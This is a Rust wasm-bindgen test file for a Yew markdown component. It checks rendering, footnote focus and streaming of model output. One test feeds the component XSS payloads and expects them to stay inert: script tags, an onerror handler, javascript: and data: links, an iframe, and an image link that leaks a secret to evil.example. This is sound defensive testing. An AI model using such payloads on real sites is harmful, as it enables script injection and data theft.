use frontend::markdown::{Markdown, MarkdownProps};
use wasm_bindgen_test::wasm_bindgen_test;
use web_sys::HtmlElement;
use yew::AttrValue;

use super::page::{Mounted, Seen, busy_machine, until};

fn properties(source: &str, streaming: bool) -> MarkdownProps {
    MarkdownProps { source: AttrValue::from(source.to_owned()), streaming }
}

#[wasm_bindgen_test]
async fn markdown_becomes_what_it_means() {
    let source = "# Title\n\nA **strong** `code` [link](https://example.org).\n\n- [x] done\n\n3. three\n\n\
        | a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n\n---\n\n~~gone~~ $x^2$";
    let page = Mounted::<Markdown>::new(properties(source, false)).await;
    assert_eq!(page.one(".heading-1").tag_name(), "H3", "below the headings of the page");
    assert_eq!(page.one("strong").text_content().unwrap(), "strong");
    assert_eq!(page.one("ol").get_attribute("start").unwrap(), "3");
    assert_eq!(page.one(".task-box.done").get_attribute("aria-label").unwrap(), "Done");
    assert_eq!(page.one("td.right").text_content().unwrap(), "2");
    assert_eq!(page.one("math > msup > mi").text_content().unwrap(), "x");
    assert_eq!(page.one("math").namespace_uri().unwrap(), "http://www.w3.org/1998/Math/MathML");
    for selector in ["blockquote", "hr", "s", ".table > table > thead th.right"] {
        page.one(selector);
    }
    let link = page.one("a");
    assert_eq!(link.get_attribute("rel").unwrap(), "noopener noreferrer");
    assert_eq!(link.get_attribute("target").unwrap(), "_blank");
}

#[wasm_bindgen_test]
async fn nothing_that_a_model_writes_becomes_script_or_a_request() {
    let source = "<script>window.owned = 1</script>\n\n<img src=x onerror=\"window.owned = 1\">\n\n\
        ![secret](https://evil.example/?q=secret) <iframe src=https://evil.example></iframe>\n\n\
        [a](javascript:window.owned=1) [b](data:text/html,x) [c](/api/me) <style>*{display:none}</style>\n\n\
        ![d](javascript:alert(1)) ![e](data:image/svg+xml,x) <javascript:window.owned=1>\n\n\
        ```\"><script>window.owned=1</script>\n</code><script>window.owned = 1</script>\n```\n";
    for streaming in [true, false] {
        let page = Mounted::<Markdown>::new(properties(source, streaming)).await;
        let harmful = "script, img, iframe, style, object, embed, link, video, audio, form, svg image, [onerror], [src]";
        assert!(page.all(harmful).is_empty(), "{}", page.root.inner_html());
        for link in page.all("a") {
            let address = link.get_attribute("href").unwrap();
            assert!(address.starts_with("https://"), "{address}");
        }
        assert!(page.text().contains("<script>window.owned = 1</script>"), "it is shown as written");
    }
    let owned = js_sys::Reflect::get(&web_sys::window().unwrap(), &"owned".into()).unwrap();
    assert!(owned.is_undefined());
}

#[wasm_bindgen_test]
async fn a_picture_shows_its_address_before_it_can_be_opened() {
    let page = Mounted::<Markdown>::new(properties("![a map](https://tiles.example/x.png)", false)).await;
    let button = page.one(".picture > button");
    assert!(button.text_content().unwrap().contains("tiles.example"));
    assert!(page.all("a").is_empty());
    button.click();
    until("the address is shown", || page.all("a").len() == 1).await;
    assert_eq!(page.one("a").text_content().unwrap(), "https://tiles.example/x.png");
}

#[wasm_bindgen_test]
async fn a_footnote_leads_there_and_back_within_its_own_text() {
    let source = "Text[^1] more.\n\n[^1]: The note.";
    let other = Mounted::<Markdown>::new(properties(source, false)).await;
    let page = Mounted::<Markdown>::new(properties(source, false)).await;
    page.one("[data-reference]").click();
    let focused = || super::page::document().active_element().unwrap();
    assert!(focused().is_same_node(Some(&page.one(".footnote"))));
    page.one(".footnote button").click();
    assert!(focused().is_same_node(Some(&page.one("[data-reference]"))));
    drop(other);
}

#[wasm_bindgen_test]
async fn a_long_answer_keeps_the_nodes_of_its_closed_blocks() {
    let mut source = String::new();
    for section in 0..12 {
        source += &format!(
            "## Section {section}\n\nSome **text** with `code` of section {section}.\n\n- one\n- two\n\n\
             ```rust\nlet section = {section};\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        );
    }
    let mut page = Mounted::<Markdown>::new(properties("", true)).await;
    let mut seen: Vec<HtmlElement> = Vec::new();
    let letters: Vec<char> = source.chars().collect();
    for end in (0..letters.len()).step_by(7) {
        page.update(properties(&letters[..end].iter().collect::<String>(), true)).await;
        let blocks = page.all(".prose > *");
        // The last two may still change: the one that grows and the one that is about to be closed.
        for (before, now) in seen.iter().zip(&blocks) {
            assert!(before.is_same_node(Some(now)), "a closed block was made anew at {end}");
        }
        seen = blocks;
        seen.truncate(seen.len().saturating_sub(2));
    }
    page.update(properties(&source, false)).await;
    let blocks = page.all(".prose > *");
    assert_eq!(blocks.len(), 60);
    for (before, now) in seen.iter().zip(&blocks) {
        assert!(before.is_same_node(Some(now)), "a block was made anew when the answer was complete");
    }
    let whole = Mounted::<Markdown>::new(properties(&source, false)).await;
    assert_eq!(page.one(".prose").inner_html(), whole.one(".prose").inner_html());
}

#[wasm_bindgen_test]
async fn on_a_busy_machine_no_part_of_a_growing_text_is_seen_before_the_one_before_it_is_whole() {
    let cases = [
        ("One two", "One two three.\n\nFour"),
        ("- one two", "- one two three\n- four"),
        ("> one two", "> one two three\n>\n> four"),
        ("- a\n\n  one two", "- a\n\n  one two three\n\n  four\n- five"),
        ("| a |\n|---|\n| one two", "| a |\n|---|\n| one two three |\n| four |\n"),
        ("```\none two\n", "```\none two\nthree\n```\nFour"),
    ];
    for (before, after) in cases {
        let mut page = Mounted::<Markdown>::new(properties(before, true)).await;
        let whole = Mounted::<Markdown>::new(properties(after, true)).await;
        let seen = Seen::new(&page.root, ".prose");
        let _busy = busy_machine();
        page.update(properties(after, true)).await;
        until(after, || page.one(".prose").inner_html() == whole.one(".prose").inner_html()).await;
        seen.must_only_have_grown();
    }
}
